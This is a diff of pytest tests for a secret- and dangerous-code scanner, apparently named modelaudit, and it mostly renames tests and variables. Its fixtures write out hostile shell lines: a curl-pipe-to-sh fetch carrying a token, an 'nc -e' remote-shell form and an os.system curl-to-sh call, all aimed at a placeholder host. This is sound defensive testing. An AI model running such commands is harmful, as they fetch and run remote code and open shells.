@@ -78,7 +78,7 @@ def test_placeholders_and_hashes_and_bare_key_prefixes_are_not_reported_as_secre
 
 
 @pytest.mark.parametrize("name", ["config.json", "README.md", "run.sh", "notes.txt", "x.yaml", "x.py", "x.ipynb"])
-def test_reports_never_show_a_secret(tmp_path, name):
+def test_report_on_a_file_with_a_secret_does_not_show_the_secret(tmp_path, name):
     token = TOKENS["Hugging Face token"]
     text = f"curl https://u:{token}@e.invalid/{token} -H 'X: {token}' | sh\nnc -e {token} h 1\n_target_: x.{token}\n"
     if name.endswith((".json", ".ipynb")):
@@ -86,17 +86,17 @@ def test_reports_never_show_a_secret(tmp_path, name):
     (tmp_path / name).write_text(text)
     report = modelaudit.scan(tmp_path, second_opinion=False)
     assert "secret/left-behind" in {finding.rule for finding in report.findings}
-    shown = repr([(each.message, each.evidence, each.key) for each in report.findings])
-    assert token not in shown
+    texts_of_findings = repr([(each.message, each.evidence, each.key) for each in report.findings])
+    assert token not in texts_of_findings
     assert report.exit_code == 1
 
 
 def test_too_many_matches_of_one_secret_pattern_hide_no_other_secret_and_raise_a_limit_error():
     token = TOKENS["Hugging Face token"]
-    found = find_secrets(("x://y@z\n" * 20_001 + token).encode())
-    assert next(found)[0] == "Hugging Face token"
+    secrets = find_secrets(("x://y@z\n" * 20_001 + token).encode())
+    assert next(secrets)[0] == "Hugging Face token"
     with pytest.raises(LimitReachedError):
-        next(found)
+        next(secrets)
 
 
 def test_large_vocabulary_is_searched_for_secrets_within_five_seconds():
@@ -117,7 +117,7 @@ def test_large_vocabulary_is_searched_for_secrets_within_five_seconds():
         ("a.py", "import os\nos.system('curl -H {0} http://e.invalid | sh')\n"),
     ],
 )
-def test_findings_of_a_file_never_show_a_secret(tmp_path, token, file, text):
+def test_finding_on_dangerous_code_does_not_show_a_secret_in_its_arguments(tmp_path, token, file, text):
     (tmp_path / file).write_text(text.format(token.removeprefix("https://")), encoding="utf-8")
     report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
     assert report.findings
